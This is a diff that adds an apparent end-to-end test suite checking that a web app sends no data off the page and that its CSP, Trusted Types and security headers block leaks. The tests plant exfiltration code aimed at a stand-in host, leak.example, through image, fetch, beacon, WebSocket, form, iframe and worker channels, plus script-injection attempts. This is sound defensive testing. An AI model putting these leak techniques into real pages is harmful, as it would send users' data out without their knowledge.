@@ -1,0 +1,355 @@
+// No data leaves the page: all traffic of Chromium goes through a proxy that records it, whatever its source. The same test
+// detects planted leaks, and the page's policy blocks everything that a policy can block.
+
+import assert from 'node:assert/strict';
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { before, test } from 'node:test';
+
+import { npy } from '../support/embeddings.mjs';
+import { startModel } from '../support/model.mjs';
+import {
+  SERVICE_WORKER, betrayed, changed, headersIn, named, overheard, plain, siteFiles, startHost, startProxy, stored,
+} from '../support/site.mjs';
+import {
+  LONG, PAGE, choose, download, dropEmbeddings, folder, keepPicture, labelOne, launch, openPage, picks, prepareQuestions, select, set,
+  unfold,
+} from '../support/tools.mjs';
+
+const LEAK = 'http://leak.example';
+const N = 40;
+const TEXTS = Array.from({ length: N }, (_, n) => `${['The card is lost', 'A recipe for soup', 'The probe sent a picture', 'When to sow'][n % 4]}, said ${n}`);
+const CSV = join(folder('e2e'), 'trust.csv');
+const LATER = join(folder('e2e'), 'trust-later.csv');
+writeFileSync(CSV, ['text', ...TEXTS.map((text) => `"${text}"`)].join('\n'));
+writeFileSync(LATER, ['text', ...TEXTS.map((text) => `"${text}, later"`)].join('\n'));
+
+let files;
+before(async () => { files = await siteFiles(); });
+
+// Chromium itself requests these hosts, whatever page is open: for updates, for a signed-in user and, by a hash of their names,
+// for the meaning of form fields. `foreign` collects the requests of the page, its workers and its service worker, so it shows
+// that none of these goes to the same hosts.
+const CHROMIUMS_OWN = ['accounts.google.com', 'update.googleapis.com', 'content-autofill.googleapis.com', 'clients2.google.com'];
+
+/** Requests of a session other than for files of the site at `address`. */
+function leaks(seen, address) {
+  const listed = new Set([SERVICE_WORKER, '', ...files.keys()]);
+  const isListed = (url) => url.startsWith(address) && listed.has(url.slice(address.length));
+  return seen.filter((url) => !isListed(url) && !CHROMIUMS_OWN.includes(new URL(url).hostname));
+}
+
+/**
+ * A test with a host, a proxy that records everything, and a page. The host sends no headers unless `sends` is set; `real` uses
+ * the real server. No text may appear in a log or a URL.
+ */
+function watched(name, body, { real = false, sends = false, prepare = (site) => site, ...options } = {}) {
+  test(`trust: ${name}`, { timeout: LONG }, async () => {
+    const headers = sends ? headersIn(String(files.get(SERVICE_WORKER))) : {};
+    const host = real ? { address: PAGE, stop() {} } : await startHost(prepare(files), '/', headers);
+    const proxy = await startProxy(new URL(host.address).origin);
+    const browser = await launch(proxy.args);
+    try {
+      const opened = await openPage(browser, { address: host.address, serviceWorkers: 'allow', ...options });
+      try {
+        // Requests to other origins must reach the proxy.
+        await opened.context.unrouteAll();
+        const heard = overheard(opened.context);
+        // Requests blocked before the page starts to listen would not be in its list.
+        await opened.page.waitForFunction(() => Number(document.querySelector('#network-count')?.dataset.asked) > 0);
+        const told = () => [...heard, ...proxy.seen.map(plain)];
+        await body({ ...opened, host, proxy, told });
+        assert.deepEqual(opened.problems, []);
+        assert.deepEqual(betrayed(told(), TEXTS), [], 'texts in a log or an address');
+      } catch (error) {
+        await keepPicture(opened.page, `trust ${name}`);
+        throw error;
+      }
+    } finally {
+      await browser.close();
+      proxy.stop();
+      host.stop();
+    }
+  });
+}
+
+const pathOf = (url) => new URL(url).pathname;
+
+/**
+ * Checks that the page counts and lists each request that the proxy saw. It lists more, because the browser's cache answers some.
+ */
+async function countsAll(page, host, proxy) {
+  // The browser itself requests the service worker's script.
+  const sent = proxy.seen.filter((url) => url.startsWith(host.address) && !url.endsWith(SERVICE_WORKER)).map(pathOf);
+  assert.ok(sent.length > 10, `${sent}`);
+  await page.waitForFunction((n) => Number(document.querySelector('#network-count')?.dataset.asked) >= n, sent.length);
+  await page.click('#network');
+  await page.waitForSelector('#network-dialog[open] #origins li');
+  const rows = await page.$$eval('#places tbody tr', (rows) => rows.map((row) => [row.cells[0].textContent, Number(row.cells[2].textContent)]));
+  const times = (path) => rows.reduce((sum, [listed, n]) => sum + (listed === path ? n : 0), 0);
+  const missing = [...new Set(sent)].filter((path) => times(path) < sent.filter((other) => other === path).length);
+  assert.deepEqual(missing, [], 'asked, and not listed as often');
+  await page.keyboard.press('Escape');
+}
+
+/** Opens a file, embeds, selects, labels one text by key, and returns the export. */
+async function session(page, file) {
+  await choose(page, [file]);
+  await set(page, 'budget', 6);
+  await select(page);
+  await labelOne(page, 'money');
+  await unfold(page);
+  return download(page, '#export-csv');
+}
+
+for (const real of [true, false]) {
+  const whose = real ? 'a host that sends the headers' : 'a host that sends none';
+  watched(`in a whole session nothing is asked but files of the site, from ${whose}`, async ({ page, host, proxy, foreign }) => {
+    await stored(page);
+    await session(page, CSV);
+    await countsAll(page, host, proxy);
+    const rows = await picks(page);
+    // Without a network everything still works.
+    proxy.cut = true;
+    const before = proxy.seen.length;
+    await page.reload();
+    await page.waitForSelector('.pick[data-label=money]');
+    assert.deepEqual(await picks(page), rows);
+    await page.click('#new-project');
+    await session(page, LATER);
+    assert.deepEqual([leaks(proxy.seen, host.address), foreign], [[], []]);
+    const asked = proxy.seen.slice(before).filter((url) => url.startsWith(host.address) && !url.endsWith(SERVICE_WORKER));
+    assert.deepEqual(asked, [], 'nothing is asked any more, but whether there is a newer version');
+    // The page counts all requests that were sent, and also those answered by the browser's cache.
+    await page.click('#network');
+    await page.waitForSelector('#network-dialog[open]');
+    await page.waitForSelector('#network-dialog #origins li');
+    assert.match(await page.innerText('#went-elsewhere'), /^All went to the page’s own server/);
+    assert.equal(await page.locator('#refused').count(), 0, 'the page trips over its own policy nowhere');
+    await page.waitForFunction(() => /works offline/.test(document.querySelector('#offline')?.innerText));
+  }, { real });
+}
+
+/** Every way for a page to send data that the proxy can see, each with its own path. */
+function plant(leak) {
+  const text = 'secret';
+  const tries = {
+    image: () => { new Image().src = `${leak}/image?${text}`; },
+    fetch: () => fetch(`${leak}/fetch`, { mode: 'no-cors', method: 'POST', body: text }),
+    beacon: () => navigator.sendBeacon(`${leak}/beacon`, text),
+    xhr: () => { const request = new XMLHttpRequest(); request.open('POST', `${leak}/xhr`); request.send(text); },
+    socket: () => new WebSocket(`${leak.replace('http', 'ws')}/socket`),
+    events: () => new EventSource(`${leak}/events`),
+    style: () => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = `${leak}/style?${text}`; document.head.append(link); },
+    prefetch: () => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = `${leak}/prefetch?${text}`; document.head.append(link); },
+    font: () => new FontFace('leak', `url(${leak}/font?${text})`).load().catch(() => {}),
+    video: () => { const video = document.createElement('video'); video.src = `${leak}/video?${text}`; document.body.append(video); },
+    frame: () => { const frame = document.createElement('iframe'); frame.src = `${leak}/frame?${text}`; document.body.append(frame); },
+    form: () => {
+      const [form, frame] = [document.createElement('form'), document.createElement('iframe')];
+      Object.assign(frame, { name: 'to' });
+      Object.assign(form, { action: `${leak}/form`, method: 'post', target: 'to' });
+      document.body.append(frame, form);
+      form.submit();
+    },
+    module: () => import(`${leak}/module`),
+    // The only document of the site whose policy allows requests to other origins, for a language model.
+    endpoint: () => {
+      const frame = document.createElement('iframe');
+      frame.src = JSON.parse(document.querySelector('#assets').textContent).endpoint;
+      frame.onload = () => frame.contentWindow.fetch(`${leak}/endpoint`, { mode: 'no-cors', method: 'POST', body: text }).catch(() => {});
+      document.body.append(frame);
+    },
+  };
+  for (const go of Object.values(tries)) {
+    try { Promise.resolve(go()).catch(() => {}); } catch { /* Refused at once. */ }
+  }
+  return Object.keys(tries);
+}
+
+const inWorker = (site) => changed(site, named(site, 'worker-loader.js'), (source) => {
+  const begun = 'tellRequests(requests);';
+  assert.ok(source.includes(begun));
+  return source.replace(begun, `${begun} console.log('secret of a worker'); fetch('${LEAK}/worker', { mode: 'no-cors' }).catch(() => {});`);
+});
+/** Leaks at each message, because the first request may come before the test has opened the way to the host. */
+const inServiceWorker = (site) => new Map(site).set(SERVICE_WORKER, Buffer.from(`${site.get(SERVICE_WORKER)}
+self.addEventListener('message', () => {
+  console.log('secret of the service worker');
+  fetch('${LEAK}/service-worker', { mode: 'no-cors' }).catch(() => {});
+});
+`));
+
+/** The ways by which a leak arrived. Of a WebSocket the proxy sees the request for a tunnel. */
+function arrived(proxy) {
+  const ways = proxy.seen.map((url) => {
+    if (url === `${LEAK.replace('http', 'https')}:80`) return 'socket';
+    return url.startsWith(LEAK) ? pathOf(url).slice(1) : undefined;
+  });
+  return [...new Set(ways.filter(Boolean))].sort();
+}
+
+/** Waits until `count` leaks have arrived, for at most ten seconds. */
+async function arrivals(page, proxy, count) {
+  for (let look = 0; look < 100 && arrived(proxy).length < count; look += 1) await page.waitForTimeout(100);
+  return arrived(proxy);
+}
+
+watched('a planted leak is found where the policy is off', async ({ page, host, proxy, foreign, told }) => {
+  const ways = await page.evaluate(plant, LEAK);
+  assert.deepEqual(await arrivals(page, proxy, ways.length), ways.sort());
+  assert.ok(foreign.length > 0);
+  assert.throws(() => assert.deepEqual(leaks(proxy.seen, host.address), []), 'the same check as of the session');
+  await page.waitForFunction(() => Number(document.querySelector('#network-count')?.dataset.elsewhere) > 0);
+  assert.match(await page.innerText('#privacy'), /Requests went to other servers/);
+  // The check of the texts also finds secrets in logs and URLs.
+  await page.evaluate(() => console.log('a', { secret: 'of the page' }));
+  const betrays = betrayed(told(), ['secret']);
+  for (const words of [`${LEAK}/image?secret`, 'of the page']) assert.ok(betrays.some((one) => one.includes(words)), `${words}: ${betrays}`);
+}, { bypassCSP: true, prepare: (site) => withoutTrustedTypes(site), serviceWorkers: 'block' });
+
+/** The site without the Trusted Types policy that `start.js` enforces. */
+function withoutTrustedTypes(site) {
+  return changed(site, 'index.html', (html) => html.replace(/<meta http-equiv[^>]*>/, ''));
+}
+
+for (const real of [true, false]) {
+  const whose = real ? 'the headers' : 'the page alone';
+  watched(`of planted leaks the policy of ${whose} stops all but two, and these are found`, async ({ page, host, proxy }) => {
+    const ways = await page.evaluate(plant, LEAK);
+    const [open, stopped] = [['endpoint'], ways.filter((way) => way !== 'endpoint')];
+    await arrivals(page, proxy, open.length);
+    await page.waitForTimeout(2000);
+    assert.deepEqual(arrived(proxy), open);
+    // The same check as for the session. The browser repeats requests that were cut off.
+    const leaked = () => [...new Set(leaks(proxy.seen, host.address))];
+    assert.deepEqual(leaked(), [`${LEAK}/endpoint`]);
+    await page.click('#network');
+    await page.waitForSelector('#network-dialog[open]');
+    const refused = await page.innerText('#refused');
+    // For a frame, the browser reports only the host.
+    for (const way of stopped) assert.ok(refused.includes(`leak.example/${way === 'frame' ? ',' : way}`), `${way}: ${refused}`);
+    assert.ok(!refused.includes('endpoint'), refused);
+    // A script can navigate the tab to another URL.
+    await page.evaluate((leak) => { location.href = `${leak}/tab`; }, LEAK);
+    assert.deepEqual(await arrivals(page, proxy, 2), ['endpoint', 'tab']);
+    assert.deepEqual(leaked(), [`${LEAK}/endpoint`, `${LEAK}/tab`]);
+  }, { real, serviceWorkers: 'block' });
+}
+
+watched('a leak in a worker is stopped on the first visit to a host that sends no headers', async ({ page, proxy }) => {
+  await session(page, CSV);
+  assert.deepEqual(arrived(proxy), []);
+  await page.click('#network');
+  await page.waitForSelector('#network-dialog[open]');
+  assert.match(await page.innerText('#refused'), /leak\.example\/worker/);
+}, { prepare: inWorker });
+
+watched('without the service worker the same leak in a worker is found', async ({ page, proxy, told }) => {
+  await session(page, CSV);
+  assert.deepEqual(arrived(proxy), ['worker']);
+  assert.ok(betrayed(told(), ['secret of a worker']).length > 0, 'and what it logs');
+}, { prepare: inWorker, serviceWorkers: 'block' });
+
+for (const sends of [true, false]) {
+  const fate = sends ? 'stopped by the headers of a host that sends them' : 'found where the host sends none';
+  watched(`a leak in the service worker’s own script is ${fate}`, async ({ page, host, proxy, told }) => {
+    await page.reload();
+    await stored(page);
+    const logged = () => betrayed(told(), ['secret of the service worker']).length > 0;
+    for (let look = 0; look < 100 && !logged(); look += 1) await page.waitForTimeout(100);
+    assert.ok(logged(), 'it ran');
+    await arrivals(page, proxy, sends ? 0 : 1);
+    assert.deepEqual(arrived(proxy), sends ? [] : ['service-worker']);
+    assert.deepEqual([...new Set(leaks(proxy.seen, host.address))], sends ? [] : [`${LEAK}/service-worker`]);
+  }, { prepare: inServiceWorker, sends });
+}
+
+watched('no string becomes code, and no HTML that acts', async ({ page }) => {
+  const tried = await page.evaluate(() => {
+    const refused = (go) => { try { go(); return false; } catch (error) { return error.name; } };
+    const inline = document.createElement('script');
+    inline.append('window.ran = "inline"');
+    const attribute = document.createElement('div');
+    document.body.append(attribute);
+    return {
+      html: refused(() => { document.createElement('div').innerHTML = '<img src=x onerror="window.ran = 1">'; }),
+      script: refused(() => { document.createElement('script').src = 'https://leak.example/x.js'; }),
+      worker: refused(() => new Worker('data:text/javascript,1')),
+      blob: refused(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
+      text: refused(() => { document.body.append(inline); }),
+      click: refused(() => { attribute.setAttribute('onclick', 'window.ran = "attribute"'); attribute.click(); }),
+      policy: refused(() => trustedTypes.createPolicy('mine', {})),
+      plain: refused(() => { document.createElement('div').innerHTML = '<b>text</b>'; }),
+      ran: window.ran,
+      cookies: document.cookie,
+    };
+  });
+  const { html, script, worker, blob, policy, plain, ran, cookies } = tried;
+  assert.deepEqual([html, script, worker, blob, policy], Array(5).fill('TypeError'));
+  assert.deepEqual([plain, ran, cookies], ['TypeError', undefined, ''], 'also HTML that does nothing');
+
+  // In a task of the page itself, because the policy may not apply to code evaluated by the debugger.
+  const strings = await page.evaluate(() => new Promise((resolve) => {
+    const refused = (go) => { try { go(); return 'it ran'; } catch (error) { return error.name; } };
+    setTimeout(() => {
+      const functions = { eval: () => (0, eval)('1'), function: () => new Function('return 1')(), async: () => new (async () => {}).constructor('1') };
+      resolve(Object.fromEntries(Object.entries(functions).map(([name, go]) => [name, refused(go)])));
+    });
+  }));
+  assert.deepEqual(strings, { eval: 'EvalError', function: 'EvalError', async: 'EvalError' });
+});
+
+watched('asking a language model opens one way, to it alone, and closes it', async ({ page, proxy, permit }) => {
+  const [model, other] = [await startModel(), await startModel()];
+  const sentTo = ({ origin }) => proxy.seen.filter((url) => url.startsWith(origin)).length;
+  /** Sends a request from the page, or from the document that may ask a language model. */
+  const send = (to, from) => page.evaluate(([address, from]) => {
+    const window = from === 'frame' ? document.querySelector('iframe').contentWindow : globalThis;
+    return window.fetch(address, { method: 'POST', body: '{"messages":[]}' }).then(() => 'sent', (error) => error.name);
+  }, [`${to.origin}/v1/x`, from]);
+  try {
+    for (const { origin } of [model, other]) { permit(origin); proxy.open.add(origin); }
+    await choose(page, [CSV]);
+    await dropEmbeddings(page, npy(N, 4));
+    await prepareQuestions(page, model);
+    model.delay = 200;
+    assert.equal(await send(model), 'TypeError', 'the page itself can ask nobody');
+    assert.equal(await page.locator('iframe').count(), 0);
+    assert.deepEqual([model, other].map(sentTo), [0, 0]);
+    await page.click('#ask');
+    await page.click('#answer-yes');
+    await page.waitForSelector('#asking');
+    await page.waitForSelector('iframe', { state: 'attached' });
+    assert.equal(await send(model), 'TypeError', 'nor while the way is open');
+    assert.equal(await send(other, 'frame'), 'TypeError', 'which leads to the language model alone');
+    assert.equal(sentTo(other), 0);
+    await page.waitForSelector('#confidences-given');
+    assert.equal(await page.locator('iframe').count(), 0, 'closed again');
+    assert.equal(model.requests.length, N);
+    const [elsewhere] = await page.$$eval('#network-count', ([count]) => [Number(count.dataset.elsewhere)]);
+    assert.equal(elsewhere, N, 'the page counts what it sent');
+  } finally {
+    model.stop();
+    other.stop();
+  }
+}, { real: true });
+
+test('trust: what the headers say', async () => {
+  const expected = {
+    'cross-origin-opener-policy': 'same-origin', 'cross-origin-embedder-policy': 'require-corp', 'referrer-policy': 'no-referrer',
+    'x-content-type-options': 'nosniff', 'set-cookie': null,
+  };
+  const meta = String(files.get('index.html')).match(/http-equiv="Content-Security-Policy" content="([^"]*)"/)[1];
+  assert.match(meta, /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval';/);
+  assert.match(meta, /connect-src 'self';/);
+  assert.doesNotMatch(meta, /unsafe-inline|'unsafe-eval'|https?:|\*/);
+  const scripts = ['app.js', 'worker.js', 'worker-loader.js'].map((name) => named(files, name));
+  for (const path of ['', ...scripts, SERVICE_WORKER]) {
+    const { headers, status } = await fetch(new URL(path, PAGE));
+    assert.equal(status, 200, path);
+    for (const [name, value] of Object.entries(expected)) assert.equal(headers.get(name), value, `${path}: ${name}`);
+    assert.equal(headers.get('content-security-policy'), `${meta}; frame-ancestors 'self'`);
+    assert.match(headers.get('permissions-policy'), /camera=\(\).*microphone=\(\)/);
+  }
+});
